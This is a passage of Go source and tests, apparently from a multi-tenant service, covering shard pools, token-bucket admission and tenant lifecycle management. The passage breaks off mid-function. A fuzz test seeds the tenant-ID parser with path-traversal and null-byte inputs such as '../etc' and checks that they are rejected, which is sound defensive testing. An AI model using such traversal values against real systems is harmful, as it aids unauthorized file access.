// SIGINT hook (jobs.DrainAll) drains every tenant's queues.
func TestDrainAllCoversTenantJobs(t *testing.T) {
	m := newTestManager(t, Config{Dir: t.TempDir(), DurableJobs: true})
	ta, err := m.Create("alpha")
	if err != nil {
		t.Fatal(err)
	}
	tb, err := m.Create("bravo")
	if err != nil {
		t.Fatal(err)
	}

	jobs.DrainAll()

	for _, tt := range []*Tenant{ta, tb} {
		if _, err := tt.Jobs().Enqueue("q", nil); !errors.Is(err, jobs.ErrClosed) {
			t.Fatalf("tenant %s jobs survived DrainAll: %v", tt.ID, err)
		}
	}
}
