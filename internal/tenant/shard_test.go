package tenant

import (
	"fmt"
	"sync"
	"testing"
	"time"
)

// waitUntil polls cond until it holds or a generous deadline passes.
func waitUntil(t *testing.T, cond func() bool) {
	t.Helper()
	deadline := time.Now().Add(5 * time.Second)
	for !cond() {
		if time.Now().After(deadline) {
			t.Fatal("condition never held")
		}
		time.Sleep(time.Millisecond)
	}
}

// TestShardStatsReconcile: after a drained workload, every shard's
// cumulative counters reconcile with the calls driven through it and
// the live gauges read idle.
func TestShardStatsReconcile(t *testing.T) {
	pool := NewShardPool(4, 2)
	defer pool.Close()

	const tenants, perTenant = 8, 25
	var wg sync.WaitGroup
	for i := 0; i < tenants; i++ {
		key := fmt.Sprintf("tenant-%d", i)
		wg.Add(1)
		go func() {
			defer wg.Done()
			for j := 0; j < perTenant; j++ {
				if err := pool.Run(key, 1, 0, func() {}); err != nil {
					t.Error(err)
					return
				}
			}
		}()
	}
	wg.Wait()

	stats := pool.ShardStats()
	if len(stats) != pool.Shards() {
		t.Fatalf("ShardStats returned %d entries for %d shards", len(stats), pool.Shards())
	}
	var enq, done uint64
	for _, st := range stats {
		if st.Shard < 0 || st.Shard >= pool.Shards() {
			t.Fatalf("stat carries shard index %d", st.Shard)
		}
		if st.Depth != 0 || st.BackloggedFlows != 0 || st.VirtualTimeLag != 0 {
			t.Fatalf("drained shard still shows backlog: %+v", st)
		}
		if st.Enqueued != st.Completed {
			t.Fatalf("shard %d enqueued %d != completed %d after drain", st.Shard, st.Enqueued, st.Completed)
		}
		if st.Completed > 0 {
			if st.ResidencyAvgMicros <= 0 {
				t.Fatalf("shard %d served %d calls with zero average residency", st.Shard, st.Completed)
			}
			if st.VirtualTime <= 0 {
				t.Fatalf("shard %d served calls without advancing its WFQ clock", st.Shard)
			}
		}
		enq += st.Enqueued
		done += st.Completed
	}
	if want := uint64(tenants * perTenant); enq != want || done != want {
		t.Fatalf("pool totals enqueued=%d completed=%d, want %d", enq, done, want)
	}
	if im := pool.Imbalance(); im < 0 {
		t.Fatalf("imbalance = %v, want >= 0", im)
	}
}

// TestShardStatsBacklogged: with the single worker plugged, the stats
// expose live depth, backlogged flow count, and a positive virtual-time
// lag for the flows still waiting.
func TestShardStatsBacklogged(t *testing.T) {
	pool := NewShardPool(1, 1)
	defer pool.Close()

	plugGate := make(chan struct{})
	plugRunning := make(chan struct{})
	go pool.Run("plug", 1, 0, func() { close(plugRunning); <-plugGate })
	<-plugRunning

	var wg sync.WaitGroup
	const backlog = 3
	for i := 0; i < backlog; i++ {
		key := fmt.Sprintf("waiter-%d", i)
		wg.Add(1)
		go func() {
			defer wg.Done()
			pool.Run(key, 1, 0, func() {})
		}()
	}
	// Wait until every waiter is queued behind the plug.
	waitUntil(t, func() bool { return pool.Depth(0) == backlog })

	st := pool.ShardStats()[0]
	if st.Depth != backlog {
		t.Fatalf("depth = %d, want %d", st.Depth, backlog)
	}
	if st.BackloggedFlows != backlog {
		t.Fatalf("backlogged flows = %d, want %d", st.BackloggedFlows, backlog)
	}
	if st.VirtualTimeLag <= 0 {
		t.Fatalf("virtual time lag = %v with %d flows waiting", st.VirtualTimeLag, backlog)
	}
	if st.Enqueued != backlog+1 || st.Completed != 1 {
		t.Fatalf("enqueued/completed = %d/%d, want %d/1", st.Enqueued, st.Completed, backlog+1)
	}

	close(plugGate)
	wg.Wait()
}

// TestShardPoolImbalance: an empty pool reads perfectly even; a single
// hot key on a multi-shard pool reads maximally skewed (max/mean - 1 =
// shards - 1).
func TestShardPoolImbalance(t *testing.T) {
	pool := NewShardPool(4, 1)
	defer pool.Close()
	if im := pool.Imbalance(); im != 0 {
		t.Fatalf("idle imbalance = %v, want 0", im)
	}
	for i := 0; i < 10; i++ {
		if err := pool.Run("hot", 1, 0, func() {}); err != nil {
			t.Fatal(err)
		}
	}
	if im := pool.Imbalance(); im != 3 {
		t.Fatalf("single-key imbalance on 4 shards = %v, want 3", im)
	}
}
