package tenant

import (
	"net/http/httptest"
	"strings"
	"testing"
)

// FuzzTenantID drives arbitrary strings through the two ingress parsers
// and checks the identity invariants: everything ParseID accepts obeys
// the charset/length rules (so it is safe as a store directory name and
// a metric label), path and header extraction agree with each other,
// and traversal/empty/oversize inputs are always rejected.
func FuzzTenantID(f *testing.F) {
	for _, seed := range []string{
		"acme", "a", "tenant-1.prod", "a_b", strings.Repeat("x", MaxIDLen),
		"", "..", "a..b", "../etc", "a/b", "A", ".lead", "-lead",
		strings.Repeat("x", MaxIDLen+1), "a\x00b", "a%2e%2e", "a b",
	} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, s string) {
		id, err := ParseID(s)
		if err != nil {
			// Rejected inputs must never round-trip through the path
			// ingress either.
			if !strings.ContainsAny(s, "/?#%\x00 ") && s != "" {
				r := httptest.NewRequest("GET", "/t/"+sanitizeTarget(s)+"/audit", nil)
				r.URL.Path = "/t/" + s + "/audit" // bypass URL parsing quirks
				r.Header.Set(HeaderTenant, s)     // agree, so only ID validity decides
				if got, _, ferr := FromRequest(r); ferr == nil && got == s {
					t.Fatalf("ParseID rejected %q but FromRequest accepted it", s)
				}
			}
			return
		}
		// Accepted: invariants that make the ID safe everywhere it flows.
		if id != s {
			t.Fatalf("ParseID(%q) rewrote the ID to %q", s, id)
		}
		if len(id) == 0 || len(id) > MaxIDLen {
			t.Fatalf("accepted ID %q has bad length %d", id, len(id))
		}
		if strings.Contains(id, "..") || strings.ContainsAny(id, "/\\") {
			t.Fatalf("accepted ID %q could traverse the store", id)
		}
		for i := 0; i < len(id); i++ {
			c := id[i]
			ok := c >= 'a' && c <= 'z' || c >= '0' && c <= '9' ||
				(i > 0 && (c == '.' || c == '_' || c == '-'))
			if !ok {
				t.Fatalf("accepted ID %q has bad byte %q at %d", id, c, i)
			}
		}

		// Path and header ingress agree on the identity.
		r := httptest.NewRequest("GET", "/t/"+id+"/market/apps", nil)
		r.Header.Set(HeaderTenant, id)
		got, rest, err := FromRequest(r)
		if err != nil || got != id || rest != "/market/apps" {
			t.Fatalf("FromRequest(/t/%s) = %q, %q, %v", id, got, rest, err)
		}
		// A disagreeing header is always a refusal, never a silent pick —
		// and so is an absent one (the path alone never grants access).
		r.Header.Set(HeaderTenant, id+"0")
		if _, _, err := FromRequest(r); err == nil {
			t.Fatalf("mismatched header accepted for %q", id)
		}
		r.Header.Del(HeaderTenant)
		if _, _, err := FromRequest(r); err == nil {
			t.Fatalf("headerless request accepted for %q", id)
		}
	})
}

// sanitizeTarget keeps httptest.NewRequest from panicking on inputs that
// are not valid request targets; the real path is forced afterwards.
func sanitizeTarget(string) string { return "x" }
