package tenant

import (
	"errors"
	"fmt"
	"sync"
	"time"
)

// Admission control is the hard-limit half of resource fairness (the
// BUDGET manifest quotas are the soft, accounting half): per-tenant
// token buckets refuse work *before* any per-call allocation happens, so
// a flooding tenant burns its own budget at the front door instead of
// shared queue capacity. Refusals carry a retry-after, surfaced as HTTP
// 429 with a Retry-After header on the scoped surface.

// ErrTenantThrottled is the sentinel every admission refusal wraps;
// errors.Is(err, ErrTenantThrottled) classifies throttling wherever the
// refusal surfaces.
var ErrTenantThrottled = errors.New("tenant: throttled")

// ThrottleError is one admission refusal: which tenant, on which path
// (call or install), and how long until a token is available.
type ThrottleError struct {
	Tenant     string
	Path       string
	RetryAfter time.Duration
}

func (e *ThrottleError) Error() string {
	return fmt.Sprintf("tenant %s throttled on %s path (retry after %v)", e.Tenant, e.Path, e.RetryAfter)
}

// Unwrap makes errors.Is(err, ErrTenantThrottled) true.
func (e *ThrottleError) Unwrap() error { return ErrTenantThrottled }

// AdmissionConfig is one tenant's hard admission limits. Zero rates mean
// unlimited on that path; zero Weight/MaxQueue select defaults.
type AdmissionConfig struct {
	// CallsPerSec / CallBurst bound the mediated-call path.
	CallsPerSec float64 `json:"calls_per_sec,omitempty"`
	CallBurst   float64 `json:"call_burst,omitempty"`
	// InstallsPerSec / InstallBurst bound the install/upgrade/recompute
	// path.
	InstallsPerSec float64 `json:"installs_per_sec,omitempty"`
	InstallBurst   float64 `json:"install_burst,omitempty"`
	// Weight is the tenant's fair share inside its shard (default 1): a
	// weight-2 tenant gets twice the service rate of a weight-1 one while
	// both are backlogged.
	Weight float64 `json:"weight,omitempty"`
	// MaxQueue bounds the tenant's queued (admitted, not yet running)
	// calls within its shard; arrivals beyond it are throttled. Default
	// 256.
	MaxQueue int `json:"max_queue,omitempty"`
}

func (c *AdmissionConfig) fill() {
	if c.Weight <= 0 {
		c.Weight = 1
	}
	if c.MaxQueue <= 0 {
		c.MaxQueue = 256
	}
	if c.CallBurst <= 0 && c.CallsPerSec > 0 {
		c.CallBurst = c.CallsPerSec
	}
	if c.InstallBurst <= 0 && c.InstallsPerSec > 0 {
		c.InstallBurst = c.InstallsPerSec
	}
}

// bucket is a token bucket; nil means unlimited.
type bucket struct {
	mu     sync.Mutex
	rate   float64 // tokens per second
	burst  float64
	tokens float64
	last   time.Time
}

func newBucket(rate, burst float64) *bucket {
	if rate <= 0 {
		return nil
	}
	if burst < 1 {
		burst = 1
	}
	return &bucket{rate: rate, burst: burst, tokens: burst, last: time.Now()}
}

// take consumes one token, or reports how long until one accrues.
func (b *bucket) take() (ok bool, retryAfter time.Duration) {
	if b == nil {
		return true, 0
	}
	b.mu.Lock()
	defer b.mu.Unlock()
	now := time.Now()
	b.tokens += now.Sub(b.last).Seconds() * b.rate
	if b.tokens > b.burst {
		b.tokens = b.burst
	}
	b.last = now
	if b.tokens >= 1 {
		b.tokens--
		return true, 0
	}
	return false, time.Duration((1 - b.tokens) / b.rate * float64(time.Second))
}

// admission is one tenant's bucket pair.
type admission struct {
	calls    *bucket
	installs *bucket
}

func newAdmission(c AdmissionConfig) *admission {
	return &admission{
		calls:    newBucket(c.CallsPerSec, c.CallBurst),
		installs: newBucket(c.InstallsPerSec, c.InstallBurst),
	}
}
