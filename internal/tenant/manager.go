package tenant

import (
	"container/list"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"sort"
	"sync"
	"sync/atomic"
	"time"

	"sdnshield/internal/core"
	"sdnshield/internal/isolation"
	"sdnshield/internal/jobs"
	"sdnshield/internal/market"
	"sdnshield/internal/obs"
)

// State is a tenant's lifecycle state.
type State string

// Tenant states.
const (
	StateActive    State = "active"
	StateSuspended State = "suspended"
)

// Config tunes a Manager. Zero values select defaults.
type Config struct {
	// Dir is the tenant store: Dir/<id>/tenant.json holds the tenant
	// record, Dir/<id>/store the market releases, Dir/<id>/jobs the job
	// WAL. "" runs everything in memory (no hydration, no persistence).
	Dir string
	// Shards is the consistent-hash shard count (default 4) and
	// ShardWorkers the worker goroutines per shard (default 2).
	Shards       int
	ShardWorkers int
	// MaxResident bounds hydrated tenants; beyond it the least recently
	// used unpinned tenant is evicted to disk. Default 1024.
	MaxResident int
	// IdleAfter evicts tenants untouched for this long (default 15m);
	// SweepInterval is the sweep cadence (default 1m, < 0 disables).
	IdleAfter     time.Duration
	SweepInterval time.Duration
	// PolicySrc and Probation configure every tenant's market.
	PolicySrc string
	Probation time.Duration
	// Admission is the default admission config for tenants created
	// without their own.
	Admission AdmissionConfig
	// JobWorkers is each tenant market's pipeline worker count (default
	// 1); DurableJobs puts each tenant's job WAL under Dir/<id>/jobs.
	JobWorkers  int
	DurableJobs bool
	// Runtime, when set, supplies the shared runtime a tenant's market
	// activates permissions into; the manager wraps it so the tenant's
	// apps cross into it namespaced "tenant/app".
	Runtime func(id string) market.Runtime
	// AdminToken, when set, gates the /tenants admin API behind
	// "Authorization: Bearer <token>". Empty leaves it open — only
	// acceptable behind a trusted network boundary.
	AdminToken string
	// Registry receives the manager's metrics (default obs.Default()).
	Registry *obs.Registry
	// MetricTenants caps distinct tenant label values in metrics; beyond
	// it tenants fold into tenant="_other". Default 256.
	MetricTenants int
}

func (c *Config) fill() {
	if c.Shards <= 0 {
		c.Shards = 4
	}
	if c.ShardWorkers <= 0 {
		c.ShardWorkers = 2
	}
	if c.MaxResident <= 0 {
		c.MaxResident = 1024
	}
	if c.IdleAfter <= 0 {
		c.IdleAfter = 15 * time.Minute
	}
	if c.SweepInterval == 0 {
		c.SweepInterval = time.Minute
	}
	if c.JobWorkers <= 0 {
		c.JobWorkers = 1
	}
	if c.Registry == nil {
		c.Registry = obs.Default()
	}
	c.Admission.fill()
}

// record is the persisted tenant identity (Dir/<id>/tenant.json).
type record struct {
	ID        string          `json:"id"`
	Admission AdmissionConfig `json:"admission"`
	Suspended bool            `json:"suspended,omitempty"`
	CreatedAt time.Time       `json:"created_at"`
}

// Manager owns the tenant lifecycle: creation, lazy hydration from the
// on-disk store, suspension, LRU/idle eviction with pinning, and the
// shard pool every tenant's calls run on.
type Manager struct {
	cfg  Config
	pool *ShardPool
	met  *metrics

	mu         sync.Mutex
	tenants    map[string]*Tenant
	lru        *list.List // of *Tenant; back = most recently used
	closed     bool
	evictions  uint64
	hydrations uint64

	stopSweep chan struct{}
	sweepDone chan struct{}
}

// NewManager builds a manager and starts its idle sweeper.
func NewManager(cfg Config) (*Manager, error) {
	cfg.fill()
	if cfg.Dir != "" {
		if err := os.MkdirAll(cfg.Dir, 0o755); err != nil {
			return nil, err
		}
	}
	pool := NewShardPool(cfg.Shards, cfg.ShardWorkers)
	m := &Manager{
		cfg:       cfg,
		pool:      pool,
		met:       newMetrics(cfg.Registry, cfg.MetricTenants, pool),
		tenants:   make(map[string]*Tenant),
		lru:       list.New(),
		stopSweep: make(chan struct{}),
		sweepDone: make(chan struct{}),
	}
	if cfg.SweepInterval > 0 {
		go m.sweeper()
	} else {
		close(m.sweepDone)
	}
	return m, nil
}

func (m *Manager) sweeper() {
	defer close(m.sweepDone)
	t := time.NewTicker(m.cfg.SweepInterval)
	defer t.Stop()
	for {
		select {
		case <-m.stopSweep:
			return
		case <-t.C:
			m.EvictIdle(time.Now())
		}
	}
}

func (m *Manager) dirOf(id string) string   { return filepath.Join(m.cfg.Dir, id) }
func (m *Manager) storeOf(id string) string { return filepath.Join(m.cfg.Dir, id, "store") }
func (m *Manager) jobsOf(id string) string  { return filepath.Join(m.cfg.Dir, id, "jobs") }

// Create registers a new tenant under the manager's default admission
// config. ErrTenantExists if the ID is already hosted or stored.
func (m *Manager) Create(id string) (*Tenant, error) {
	return m.CreateWith(id, m.cfg.Admission)
}

// CreateWith registers a new tenant with its own admission config.
func (m *Manager) CreateWith(id string, adm AdmissionConfig) (*Tenant, error) {
	id, err := ParseID(id)
	if err != nil {
		return nil, err
	}
	adm.fill()
	rec := record{ID: id, Admission: adm, CreatedAt: time.Now()}

	m.mu.Lock()
	if m.closed {
		m.mu.Unlock()
		return nil, ErrManagerClosed
	}
	if _, ok := m.tenants[id]; ok {
		m.mu.Unlock()
		return nil, fmt.Errorf("%w: %s", ErrTenantExists, id)
	}
	m.mu.Unlock()

	if m.cfg.Dir != "" {
		if _, err := os.Stat(filepath.Join(m.dirOf(id), "tenant.json")); err == nil {
			return nil, fmt.Errorf("%w: %s (stored)", ErrTenantExists, id)
		}
		if err := os.MkdirAll(m.storeOf(id), 0o755); err != nil {
			return nil, err
		}
		if err := m.writeRecord(&rec); err != nil {
			return nil, err
		}
	}
	return m.admit(&rec, false)
}

// writeRecord persists a tenant record atomically (tmp + rename).
func (m *Manager) writeRecord(rec *record) error {
	raw, err := json.MarshalIndent(rec, "", "  ")
	if err != nil {
		return err
	}
	path := filepath.Join(m.dirOf(rec.ID), "tenant.json")
	tmp := path + ".tmp"
	if err := os.WriteFile(tmp, raw, 0o644); err != nil {
		return err
	}
	return os.Rename(tmp, path)
}

// Acquire resolves a tenant and marks one in-flight use of it, so a
// concurrent eviction waits for the use to end instead of closing the
// tenant's market and job manager mid-request. It retries when it loses
// the Get/close race (the closing instance is already unlinked, so the
// retry hydrates or finds a fresh one). The returned release func must
// be called exactly once when the use ends.
func (m *Manager) Acquire(id string) (*Tenant, func(), error) {
	for {
		t, err := m.Get(id)
		if err != nil {
			return nil, nil, err
		}
		if t.tryAcquire() {
			return t, t.release, nil
		}
	}
}

// Get returns a resident tenant, hydrating it from the on-disk store
// when the manager persists and the tenant exists there.
func (m *Manager) Get(id string) (*Tenant, error) {
	id, err := ParseID(id)
	if err != nil {
		return nil, err
	}
	m.mu.Lock()
	if m.closed {
		m.mu.Unlock()
		return nil, ErrManagerClosed
	}
	if t, ok := m.tenants[id]; ok {
		m.mu.Unlock()
		t.touch()
		return t, nil
	}
	m.mu.Unlock()
	if m.cfg.Dir == "" {
		return nil, fmt.Errorf("%w: %s", ErrUnknownTenant, id)
	}
	raw, err := os.ReadFile(filepath.Join(m.dirOf(id), "tenant.json"))
	if err != nil {
		return nil, fmt.Errorf("%w: %s", ErrUnknownTenant, id)
	}
	var rec record
	if err := json.Unmarshal(raw, &rec); err != nil {
		return nil, fmt.Errorf("tenant: corrupt record for %s: %v", id, err)
	}
	rec.ID = id
	rec.Admission.fill()
	return m.admit(&rec, true)
}

// GetOrCreate returns the tenant, creating it when neither hosted nor
// stored.
func (m *Manager) GetOrCreate(id string) (*Tenant, error) {
	t, err := m.Get(id)
	if err == nil {
		return t, nil
	}
	if !errors.Is(err, ErrUnknownTenant) {
		return nil, err
	}
	t, err = m.Create(id)
	if errors.Is(err, ErrTenantExists) {
		// Lost a create race: the winner's tenant is resident now.
		return m.Get(id)
	}
	return t, err
}

// admit builds the runtime tenant for a record and registers it,
// evicting LRU victims beyond MaxResident. hydrated marks a disk load
// (for the hydration counter and the create/hydrate race: two
// concurrent Gets may both build; the loser's build is discarded).
func (m *Manager) admit(rec *record, hydrated bool) (*Tenant, error) {
	t, err := m.build(rec)
	if err != nil {
		return nil, err
	}

	m.mu.Lock()
	if m.closed {
		m.mu.Unlock()
		t.close()
		return nil, ErrManagerClosed
	}
	if prior, ok := m.tenants[rec.ID]; ok {
		m.mu.Unlock()
		t.close()
		if hydrated {
			return prior, nil
		}
		return nil, fmt.Errorf("%w: %s", ErrTenantExists, rec.ID)
	}
	m.tenants[rec.ID] = t
	t.elem = m.lru.PushBack(t)
	m.met.resident.Set(int64(len(m.tenants)))
	if hydrated {
		m.hydrations++
		m.met.hydrations.Inc()
	}
	victims := m.lruVictimsLocked(len(m.tenants) - m.cfg.MaxResident)
	m.mu.Unlock()

	m.closeAll(victims)
	return t, nil
}

// build constructs a tenant's market, job manager and runtime wiring.
func (m *Manager) build(rec *record) (*Tenant, error) {
	reg := market.NewRegistry()
	if m.cfg.Dir != "" {
		if _, err := os.Stat(m.storeOf(rec.ID)); err == nil {
			if _, _, err := market.LoadDir(m.storeOf(rec.ID), reg); err != nil {
				return nil, fmt.Errorf("tenant %s: store load: %w", rec.ID, err)
			}
		}
	}
	var rt market.Runtime
	if m.cfg.Runtime != nil {
		if base := m.cfg.Runtime(rec.ID); base != nil {
			rt = ScopedRuntime(base, rec.ID)
		}
	}
	mkt, err := market.New(reg, rt, market.Config{
		PolicySrc: m.cfg.PolicySrc,
		Probation: m.cfg.Probation,
		Tenant:    rec.ID,
	})
	if err != nil {
		return nil, fmt.Errorf("tenant %s: %w", rec.ID, err)
	}
	jobDir := ""
	if m.cfg.DurableJobs && m.cfg.Dir != "" {
		jobDir = m.jobsOf(rec.ID)
	}
	jm, err := jobs.Open(jobs.Config{Dir: jobDir})
	if err != nil {
		mkt.Close()
		return nil, fmt.Errorf("tenant %s: jobs: %w", rec.ID, err)
	}
	mkt.AttachJobs(jm, m.cfg.JobWorkers)
	t := &Tenant{
		ID:      rec.ID,
		mgr:     m,
		shard:   m.pool.ShardOf(rec.ID),
		created: rec.CreatedAt,
		mkt:     mkt,
		jm:      jm,
		adm:     newAdmission(rec.Admission),
		admCfg:  rec.Admission,
		met:     m.met.forTenant(rec.ID),
	}
	t.drained = sync.NewCond(&t.lifeMu)
	if rec.Suspended {
		t.state.Store(string(StateSuspended))
	} else {
		t.state.Store(string(StateActive))
	}
	t.lastTouch.Store(time.Now().UnixNano())
	return t, nil
}

// lruVictimsLocked unlinks up to n least-recently-used unpinned, idle
// tenants (front of the LRU) and returns them for closing outside the
// lock. Tenants with in-flight holders are skipped — pressure relief
// must not interrupt running requests (and close would block on them).
func (m *Manager) lruVictimsLocked(n int) []*Tenant {
	if n <= 0 {
		return nil
	}
	var victims []*Tenant
	for e := m.lru.Front(); e != nil && len(victims) < n; {
		next := e.Next()
		t := e.Value.(*Tenant)
		if !t.pinned.Load() && !t.busy() {
			m.unlinkLocked(t)
			victims = append(victims, t)
		}
		e = next
	}
	return victims
}

// unlinkLocked removes a tenant from the resident set. Caller holds
// m.mu; the tenant must still be closed (outside the lock).
func (m *Manager) unlinkLocked(t *Tenant) {
	delete(m.tenants, t.ID)
	if t.elem != nil {
		m.lru.Remove(t.elem)
		t.elem = nil
	}
	m.evictions++
	m.met.resident.Set(int64(len(m.tenants)))
	m.met.evictions.Inc()
}

func (m *Manager) closeAll(ts []*Tenant) {
	for _, t := range ts {
		t.close()
	}
}

// Suspend stops a tenant's intake: scoped HTTP answers 503 and Do
// refuses with ErrSuspended. Persisted, so a suspended tenant hydrates
// suspended.
func (m *Manager) Suspend(id string) error { return m.setSuspended(id, true) }

// Resume reactivates a suspended tenant.
func (m *Manager) Resume(id string) error { return m.setSuspended(id, false) }

func (m *Manager) setSuspended(id string, suspended bool) error {
	t, err := m.Get(id)
	if err != nil {
		return err
	}
	st := StateActive
	if suspended {
		st = StateSuspended
	}
	t.state.Store(string(st))
	if m.cfg.Dir != "" {
		// Re-persist the hydrated identity — CreatedAt is the tenant's
		// original creation time, not this lifecycle toggle's.
		rec := record{ID: t.ID, Admission: t.admCfg, Suspended: suspended, CreatedAt: t.created}
		return m.writeRecord(&rec)
	}
	return nil
}

// Pin shields a tenant from idle and LRU eviction (explicit Evict still
// works). pin=false unpins.
func (m *Manager) Pin(id string, pin bool) error {
	t, err := m.Get(id)
	if err != nil {
		return err
	}
	t.pinned.Store(pin)
	return nil
}

// Evict closes a resident tenant and drops it from memory; its store
// (when the manager persists) remains for re-hydration. Works on pinned
// and busy tenants — pinning and in-flight use shield only the automatic
// eviction paths — but waits for in-flight requests to drain before the
// tenant's market and job manager close.
func (m *Manager) Evict(id string) error {
	m.mu.Lock()
	t, ok := m.tenants[id]
	if !ok {
		m.mu.Unlock()
		return fmt.Errorf("%w: %s (not resident)", ErrUnknownTenant, id)
	}
	m.unlinkLocked(t)
	m.mu.Unlock()
	t.close()
	return nil
}

// EvictIdle evicts unpinned tenants untouched for cfg.IdleAfter,
// returning how many it closed.
func (m *Manager) EvictIdle(now time.Time) int {
	cutoff := now.Add(-m.cfg.IdleAfter).UnixNano()
	m.mu.Lock()
	if m.closed {
		m.mu.Unlock()
		return 0
	}
	var victims []*Tenant
	for e := m.lru.Front(); e != nil; {
		next := e.Next()
		t := e.Value.(*Tenant)
		if !t.pinned.Load() && !t.busy() && t.lastTouch.Load() < cutoff {
			m.unlinkLocked(t)
			victims = append(victims, t)
		}
		e = next
	}
	m.mu.Unlock()
	m.closeAll(victims)
	return len(victims)
}

// Info is one tenant's listing for /tenants and the CLIs.
type Info struct {
	ID        string    `json:"id"`
	State     State     `json:"state"`
	Shard     int       `json:"shard"`
	Pinned    bool      `json:"pinned,omitempty"`
	Apps      int       `json:"apps"`
	Calls     uint64    `json:"calls"`
	Throttled uint64    `json:"throttled"`
	CreatedAt time.Time `json:"created_at"`
	LastTouch time.Time `json:"last_touch"`
}

// List returns the resident tenants, sorted by ID.
func (m *Manager) List() []Info {
	m.mu.Lock()
	ts := make([]*Tenant, 0, len(m.tenants))
	for _, t := range m.tenants {
		ts = append(ts, t)
	}
	m.mu.Unlock()
	out := make([]Info, 0, len(ts))
	for _, t := range ts {
		out = append(out, t.Info())
	}
	sort.Slice(out, func(i, k int) bool { return out[i].ID < out[k].ID })
	return out
}

// Stored returns the tenant IDs present in the on-disk store (resident
// or not), sorted.
func (m *Manager) Stored() []string {
	if m.cfg.Dir == "" {
		return nil
	}
	entries, err := os.ReadDir(m.cfg.Dir)
	if err != nil {
		return nil
	}
	var out []string
	for _, e := range entries {
		if !e.IsDir() {
			continue
		}
		if _, err := os.Stat(filepath.Join(m.cfg.Dir, e.Name(), "tenant.json")); err == nil {
			out = append(out, e.Name())
		}
	}
	sort.Strings(out)
	return out
}

// Resident reports how many tenants are hydrated.
func (m *Manager) Resident() int {
	m.mu.Lock()
	defer m.mu.Unlock()
	return len(m.tenants)
}

func (m *Manager) isClosed() bool {
	m.mu.Lock()
	defer m.mu.Unlock()
	return m.closed
}

// Registry returns the manager's metrics registry.
func (m *Manager) Registry() *obs.Registry { return m.cfg.Registry }

// Close stops the sweeper, drains the shard pool (queued calls finish),
// and closes every resident tenant's market and job manager.
func (m *Manager) Close() {
	m.mu.Lock()
	if m.closed {
		m.mu.Unlock()
		return
	}
	m.closed = true
	ts := make([]*Tenant, 0, len(m.tenants))
	for _, t := range m.tenants {
		ts = append(ts, t)
	}
	m.tenants = make(map[string]*Tenant)
	m.lru.Init()
	m.mu.Unlock()

	close(m.stopSweep)
	<-m.sweepDone
	m.pool.Close()
	m.closeAll(ts)
	m.met.resident.Set(0)
}

// ---------------------------------------------------------------------------
// Tenant

// Tenant is one hosted tenant: a private market over a private registry,
// a private job manager, admission buckets, and a consistent shard
// placement. All methods are safe for concurrent use.
type Tenant struct {
	ID      string
	mgr     *Manager
	shard   int
	created time.Time // original creation time, carried across re-persists

	mkt    *market.Market
	jm     *jobs.Manager
	adm    *admission
	admCfg AdmissionConfig
	met    *tenantMetrics

	state     atomic.Value // string(State)
	pinned    atomic.Bool
	lastTouch atomic.Int64 // unix nanos
	lastLRU   atomic.Int64 // unix nanos of the last LRU move

	// lifeMu guards the in-flight refcount against close: holders keep
	// the market and job manager open; close marks the tenant closing
	// (refusing new holders) and waits on drained for refs to hit zero.
	lifeMu  sync.Mutex
	refs    int
	closing bool
	drained *sync.Cond

	mu   sync.Mutex
	elem *list.Element // LRU position; nil once evicted
	mux  http.Handler  // lazily built scoped surface
}

// tryAcquire marks one in-flight use of the tenant. It fails once close
// has begun — the caller should re-resolve the tenant through the
// manager, which hydrates a fresh instance (Manager.Acquire does this).
func (t *Tenant) tryAcquire() bool {
	t.lifeMu.Lock()
	defer t.lifeMu.Unlock()
	if t.closing {
		return false
	}
	t.refs++
	return true
}

// release ends one in-flight use, waking a close waiting for drain.
func (t *Tenant) release() {
	t.lifeMu.Lock()
	t.refs--
	if t.refs == 0 && t.closing {
		t.drained.Broadcast()
	}
	t.lifeMu.Unlock()
}

// busy reports whether the tenant has in-flight holders.
func (t *Tenant) busy() bool {
	t.lifeMu.Lock()
	defer t.lifeMu.Unlock()
	return t.refs > 0
}

// State returns the tenant's lifecycle state.
func (t *Tenant) State() State { return State(t.state.Load().(string)) }

// Market returns the tenant's private market.
func (t *Tenant) Market() *market.Market { return t.mkt }

// Jobs returns the tenant's private job manager.
func (t *Tenant) Jobs() *jobs.Manager { return t.jm }

// Shard returns the tenant's consistent shard placement.
func (t *Tenant) Shard() int { return t.shard }

// Weight returns the tenant's fair-share weight.
func (t *Tenant) Weight() float64 { return t.admCfg.Weight }

// touch records activity for idle eviction and refreshes the LRU
// position — the list move is throttled to ~1s so the hot path takes
// the manager lock at most once a second per tenant.
func (t *Tenant) touch() {
	now := time.Now().UnixNano()
	t.lastTouch.Store(now)
	last := t.lastLRU.Load()
	if now-last < int64(time.Second) || !t.lastLRU.CompareAndSwap(last, now) {
		return
	}
	m := t.mgr
	m.mu.Lock()
	if t.elem != nil {
		m.lru.MoveToBack(t.elem)
	}
	m.mu.Unlock()
}

// Do runs one mediated call for the tenant: token-bucket admission
// first (hard refusal with retry-after, before any allocation), then
// weighted-fair dispatch on the tenant's shard. The returned error is
// fn's own, a *ThrottleError, ErrSuspended, ErrUnknownTenant (the
// instance was evicted — re-Get it), or ErrManagerClosed.
func (t *Tenant) Do(op string, fn func() error) error {
	if t.State() != StateActive {
		return fmt.Errorf("%w: %s", ErrSuspended, t.ID)
	}
	if !t.tryAcquire() {
		if t.mgr.isClosed() {
			return ErrManagerClosed
		}
		return fmt.Errorf("%w: %s (evicted)", ErrUnknownTenant, t.ID)
	}
	defer t.release()
	if ok, retry := t.adm.calls.take(); !ok {
		t.met.throttledCalls.Inc()
		return &ThrottleError{Tenant: t.ID, Path: "call", RetryAfter: retry}
	}
	t.touch()
	start := time.Now()
	var err error
	runErr := t.mgr.pool.Run(t.ID, t.admCfg.Weight, t.admCfg.MaxQueue, func() { err = fn() })
	if runErr != nil {
		if errors.Is(runErr, ErrPoolClosed) {
			return ErrManagerClosed
		}
		t.met.throttledCalls.Inc()
		return &ThrottleError{Tenant: t.ID, Path: "call", RetryAfter: 100 * time.Millisecond}
	}
	t.met.calls.Inc()
	t.met.callSeconds.Observe(time.Since(start))
	_ = op
	return err
}

// AdmitInstall spends one install-path token, refusing with a
// *ThrottleError when the tenant's install bucket is dry. The scoped
// HTTP surface calls it before forwarding install/upgrade/recompute.
func (t *Tenant) AdmitInstall() error {
	if t.State() != StateActive {
		return fmt.Errorf("%w: %s", ErrSuspended, t.ID)
	}
	if ok, retry := t.adm.installs.take(); !ok {
		t.met.throttledInstalls.Inc()
